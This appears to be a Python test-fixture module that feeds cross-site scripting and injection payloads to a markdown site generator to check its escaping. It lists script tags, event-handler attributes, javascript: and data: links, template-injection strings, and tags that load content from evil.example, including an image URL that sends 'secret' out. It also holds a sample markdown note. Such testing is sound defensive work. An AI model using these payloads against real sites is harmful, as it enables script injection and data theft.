"""What the sites are made of: hostile texts, addresses and tags, and a person's own note with all that markdown can do."""

from __future__ import annotations

from tests.vault.output.test_escaping import HOSTILE

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>", "<embed src=https://evil.example/x>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<form action=https://evil.example/><input name=q><button>Go</button></form>", "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "![x](data:image/svg+xml,<svg/>)", "![x](https://evil.example/?q=secret)", "<https://evil.example/>",
    "[x]: https://evil.example/ 'y'", "{{ 7*7 }}{% include 'x' %}", "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)", "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) style=position:fixed>",
)  # fmt: skip
HOSTILE_TEXTS = tuple(sorted({*HOSTILE, *SCRIPTS}))
HOSTILE_PAGES = (
    "https://evil.example/\"><script>alert(1)</script>?q='x'",
    "javascript:alert(document.domain)//crash-safety.md",
    "corpus:<img src=x onerror=alert(1)>|[[Home]].md",
)
HOSTILE_TAGS = ("<b>tag</b>", "javascript:alert(1)", "a b/../../c", '"><img src=x onerror=alert(1)>')

OWN_NOTE = """---
title: "My own note"
tags: [mine]
rating: 5
website: "https://example.org/"
---
# A note of my own

It leads [[Home]], [home by another name](../Home.md), [[nowhere at all]], to [a site](https://example.org/a?b=c&d=e) and
to <mailto:me@example.org>.

> [!tip]- Folded
> With **strong**, *stressed*, ~~gone~~ and ==marked== words, `code` and a #tag/nested.

> [!warning] A warning with a list
> - one
> - two

## Tasks and tables

- [ ] open
- [x] done
  - deeper

| left | right |
| :--- | ---: |
| a | 1 |
| b with a [[Home\\|link]] | 22 |

```python
print("no colours")
```

## The same heading

Some words. ^my-block

## The same heading

%% a comment %%
![[Home#Last night]]

![[my/own#^my-block]]

1. first
2. second

---

The end.
"""


class HostileWords:
    """Puts the next hostile text behind each text it is given; every third is replaced altogether. ``said`` counts."""

    def __init__(self) -> None:
        self.said = 0

    def __call__(self, text: str) -> str:
        hostile = HOSTILE_TEXTS[self.said % len(HOSTILE_TEXTS)]
        self.said += 1
        return hostile if self.said % 3 == 0 else f"{text} {hostile}"

    @property
    def all_said(self) -> bool:
        """Whether each text was used at least once."""
        return self.said >= len(HOSTILE_TEXTS)
